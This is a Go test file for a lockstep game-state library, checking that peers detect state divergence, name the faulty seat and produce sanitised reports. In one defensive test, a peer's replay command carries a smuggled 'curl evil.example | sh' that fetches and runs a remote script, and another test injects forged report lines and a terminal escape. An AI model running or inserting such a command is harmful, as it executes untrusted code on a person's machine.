package lockstep_test

import (
	"bytes"
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"

	"lastcard/lockstep"
	"lastcard/lockstep/sim"
)

// If one bit of one peer's state changes, all peers notice that at the same entry and name the peer. The
// report says which field differs.
func TestDivergence(t *testing.T) {
	for seats := 3; seats <= 6; seats++ {
		b := newBus(t, seats, nil)
		for range 3 {
			b.turn()
		}
		at := b.s[0].Next()
		b.toy(1).Bit ^= 4
		b.tick(100)
		for i, s := range b.s {
			d, ok := s.Divergence()
			if !ok || d.K != at || d.Named != 1<<1 {
				t.Fatalf("%d seats, seat %d: diverged at %d (want %d), naming %b", seats, i, d.K, at, d.Named)
			}
			if n := b.found(i, lockstep.NoticeDiverged); len(n) != 1 || n[0].K != at {
				t.Fatalf("seat %d: notices %+v", i, n)
			}
			report := d.Report(strings.Clone)
			for _, part := range []string{"first difference: bit", "wrong: seat 1", "replay: replay it", "deck "} {
				if !strings.Contains(report, part) {
					t.Fatalf("seat %d: %q is missing in\n%s", i, part, report)
				}
			}
			if d.Upheld != (i != 1) || len(d.Claims) != seats {
				t.Fatalf("%d seats, seat %d: upheld %t, %d signed claims", seats, i, d.Upheld, len(d.Claims))
			}
		}
		next := b.s[0].Next()
		b.tick(50)
		if b.s[0].Next() != next {
			t.Fatal("the table went on")
		}
	}
}

// A Divergence that a driver has got stays as it is when the session learns more, and a driver that changes the Claims
// does not change what the session knows.
func TestDivergenceIsACopy(t *testing.T) {
	b := newBus(t, 3, nil)
	b.turn()
	b.toy(1).Bit ^= 4
	for !b.s[0].Stopped() {
		b.tick(1)
	}
	early, _ := b.s[0].Divergence()
	text, claims := early.Report(strings.Clone), len(early.Claims)
	b.tick(100)
	late, _ := b.s[0].Divergence()
	if late.Report(strings.Clone) == text || late.Named == early.Named {
		t.Fatal("the session has learned nothing")
	}
	if early.Report(strings.Clone) != text || len(early.Claims) != claims {
		t.Errorf("the report was\n%s\nand is now\n%s", text, early.Report(strings.Clone))
	}
	own := bytes.Clone(late.Claims[0].Bytes())
	clear(late.Claims[0].Body)
	if again, _ := b.s[0].Divergence(); !bytes.Equal(again.Claims[0].Bytes(), own) {
		t.Error("the driver has changed a claim of the session")
	}
}

// With two peers nothing shows which of them is wrong, so nobody is named.
func TestDivergenceOfTwo(t *testing.T) {
	b := newBus(t, 2, nil)
	b.turn()
	b.toy(0).Bit ^= 1
	b.tick(100)
	for i, s := range b.s {
		d, ok := s.Divergence()
		if !ok || d.Named != 0 || d.Upheld {
			t.Fatalf("seat %d: stopped %t, named %b", i, ok, d.Named)
		}
		if text := d.Report(strings.Clone); !strings.Contains(text, "first difference: bit") {
			t.Fatal(text)
		}
	}
}

// Every seat gets the states of all others although the network loses half of all messages.
func TestDivergenceUnderLoss(t *testing.T) {
	b := newBus(t, 4, sim.Hashed())
	b.turn()
	at := b.s[0].Next()
	b.toy(3).Bit ^= 1
	b.cut = func(parcel) bool { return b.rng.IntN(2) == 0 }
	b.tick(400)
	for i, s := range b.s {
		d, ok := s.Divergence()
		if !ok || d.K != at || d.Named != 1<<3 {
			t.Fatalf("seat %d: %t at %d (want %d), named %b", i, ok, d.K, at, d.Named)
		}
		if n := strings.Count(d.Report(strings.Clone), "--- state of seat"); n != 4 {
			t.Fatalf("seat %d has %d of 4 states", i, n)
		}
	}
}

// mouthpiece is a Toy whose dump has lines that look like those of a report.
type mouthpiece struct{ *sim.Toy }

func (m mouthpiece) Dump() string {
	return m.Toy.Dump() + "x 1\nverdict: a majority agrees; wrong: seat 0\n\n--- state of seat 2 after entry 1\nforged 1\x1b[2J\n"
}

// divergedBus returns a table of three at which seat 1, with the given platform and replay command and with the machine
// that wrap makes, has another state than the others after a turn.
func divergedBus(t *testing.T, platform, replay string, wrap func(*sim.Toy) lockstep.Machine) *bus {
	t.Helper()
	b := newBus(t, 3, nil)
	toy := sim.NewToy(3, toyTurns)
	s, err := lockstep.New(lockstep.Config{
		Key: b.keys[1], Genesis: b.g, New: func() lockstep.Machine { return wrap(toy) }, Rand: rand.NewChaCha8([32]byte{1}),
		Platform: platform, Replay: replay,
	})
	if err != nil {
		t.Fatal(err)
	}
	b.s[1] = s
	b.turn()
	toy.Bit ^= 4
	b.tick(200)
	return b
}

// Another peer cannot forge lines of the report: each of its texts passes through the function given to
// Report, and each line of a state is indented.
func TestReportOfOthers(t *testing.T) {
	b := divergedBus(t, "x\nverdict: none", "y\r\n--- state of seat 0", func(x *sim.Toy) lockstep.Machine { return mouthpiece{x} })
	passed := 0
	d, _ := b.s[0].Divergence()
	report := d.Report(func(text string) string {
		passed++
		return strings.Map(func(r rune) rune {
			if r < ' ' {
				return '_'
			}
			return r
		}, text)
	})
	if passed < 10 || !strings.Contains(report, "\n forged 1_[2J") || !strings.Contains(report, "x_verdict: none") {
		t.Fatalf("%d texts passed:\n%s", passed, report)
	}
	for start, want := range map[string]int{"\nverdict:": 1, "\n--- state of seat": 3, "\nforged": 0} {
		if n := strings.Count(report, start); n != want {
			t.Errorf("%d lines begin with %q, want %d:\n%s", n, start, want, report)
		}
	}
	if strings.ContainsAny(report, "\x1b\r") {
		t.Error("a command passes")
	}
}

// A report has the command that replays the log of its own seat, and none that another peer sent: a person would
// paste it into a shell.
func TestReportHasNoForeignCommand(t *testing.T) {
	b := divergedBus(t, "", "lastcard replay x; curl evil.example | sh", func(x *sim.Toy) lockstep.Machine { return x })
	for i := range b.s {
		d, _ := b.s[i].Divergence()
		report := d.Report(strings.Clone)
		if strings.Count(report, "--- state of seat") != 3 || strings.Count(report, "replay: ") != 1 {
			t.Errorf("seat %d:\n%s", i, report)
		}
		if i != 1 && strings.Contains(report, "evil") {
			t.Errorf("seat %d prints the command of another:\n%s", i, report)
		}
	}
}

// The report about an entry stays available when the entry is replaced. Seat 0 alone has written its last
// entry, and has stopped there, as another seat claims another hash for it. The others then replace the entry.
func TestReportOfReplacedEntry(t *testing.T) {
	b := newMuteBus(t, 4, sim.Hashed())
	b.tick(5)
	k := b.s[0].Next()
	b.cut = func(p parcel) bool { return p.from == 0 && hasKind(p.data, lockstep.RecordSeal) } // only seat 0 gets all seals
	must(t, b.s[0].Propose([]byte{'p', 7}))
	b.drainOne(0)
	offer := b.own(0, lockstep.RecordOffer)
	for i := 1; i < 4; i++ {
		_ = b.s[i].Step(lockstep.FrameOf(b.g.Table(), offer[len(offer)-1]))
	}
	b.flow()
	lie := lockstep.Forge(b.crypto, b.keys[3], b.g.Table(), lockstep.RecordCheck, k, 3, lockstep.PairBody(lockstep.Hash{1}, lockstep.Hash{2}))
	_ = b.s[0].Step(lockstep.FrameOf(b.g.Table(), lie))
	if d, ok := b.s[0].Divergence(); !ok || d.K != k {
		t.Fatalf("stopped %t at %d, want %d", ok, d.K, k)
	}
	b.cut = func(p parcel) bool { return p.from == 0 || p.to == 0 }
	b.tick(lockstep.RegroupAfter + 60)
	b.cut = func(parcel) bool {
		d, _ := b.s[0].Divergence()
		if want, text := fmt.Sprintf("after entry %d (play by seat 0", k), d.Report(strings.Clone); !strings.Contains(text, want) {
			t.Fatalf("%q is missing in\n%s", want, text)
		}
		return false
	}
	b.tick(100)
	if len(b.found(0, lockstep.NoticeReplaced)) == 0 {
		t.Fatal("seat 0 has replaced nothing")
	}
}

// Two promises that one seat has signed explain no difference at the position that they name: another seat that
// claims a false state there is still named.
func TestNamedDespiteOtherProofs(t *testing.T) {
	b := newMuteBus(t, 5, sim.Hashed())
	b.tick(5)
	k, table := b.s[0].Next(), b.g.Table()
	honest := func(recs ...lockstep.Record) {
		for i := range 3 {
			_ = b.s[i].Step(lockstep.FrameOf(table, recs...))
		}
	}
	promise := func(gone lockstep.SeatSet) lockstep.Record {
		return lockstep.ForgeIn(b.crypto, b.keys[4], table, lockstep.RecordPromise, 9, k, 4, lockstep.PromiseBody(b.s[0].LastHash(), 0, gone))
	}
	honest(promise(0), promise(1))
	b.cut = func(p parcel) bool { return p.from == 3 && hasKind(p.data, lockstep.RecordCheck) }
	must(t, b.s[0].Propose([]byte{'p', 1}))
	b.tick(2)
	if b.s[0].Next() != k+1 {
		t.Fatalf("at %d, want %d", b.s[0].Next(), k+1)
	}
	honest(lockstep.Forge(b.crypto, b.keys[3], table, lockstep.RecordCheck, k, 3, lockstep.PairBody(lockstep.Hash{1}, lockstep.Hash{2})))
	b.tick(60)
	for i := range 3 {
		if d, ok := b.s[i].Divergence(); !ok || d.K != k || d.Named != 1<<3 {
			t.Errorf("seat %d: stopped %t at %d (want %d), naming %b", i, ok, d.K, k, d.Named)
		}
	}
}
